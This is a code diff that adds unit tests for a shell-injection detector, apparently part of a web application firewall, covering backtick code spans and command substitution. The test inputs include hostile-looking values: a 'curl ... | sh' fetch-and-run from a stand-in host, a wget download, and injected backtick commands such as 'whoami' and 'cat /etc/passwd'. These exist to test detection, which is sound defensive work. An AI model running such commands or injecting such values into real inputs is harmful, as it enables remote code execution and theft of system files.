@@ -56,3 +56,24 @@ describe('a command after a line break', () => {
     expect(at2('Please see the output below:\ncurl http://e.example/a.sh | sh')).toEqual(['waf.rce.command-chain'])
   })
 })
+
+describe('a command in backticks', () => {
+  const at = (v: string, level: 2 | 3): string[] => {
+    const out: Finding[] = []
+    detectShell({ value: v, lower: v.toLowerCase(), kind: 'json', level }, out)
+    return out.map((f) => f.rule)
+  }
+
+  it('is a Markdown code span inside a sentence: level 3 only, the chain within it too', () => {
+    for (const v of ['Works on my Mac: `ls -la ~/Downloads | grep invoice` finds the PDF, but the link 404s.', '<p>Tried `curl -s https://shop.example/cart.js | jq .items` and the cart is empty</p>', 'Run `id` and send me what it says']) {
+      expect(at(v, 2), v).toEqual([])
+      expect(at(v, 3), v).toHaveLength(1)
+    }
+  })
+
+  it('is command substitution when no sentence surrounds it, or the span is glued to the value', () => {
+    for (const v of ['`id`', ';`whoami`', 'x`cat /etc/passwd`', 'name `wget http://e.example/a.sh` x', 'a b c`id` d e f', 'see `id`;ls -la /tmp']) {
+      expect(at(v, 2), v).not.toEqual([])
+    }
+  })
+})
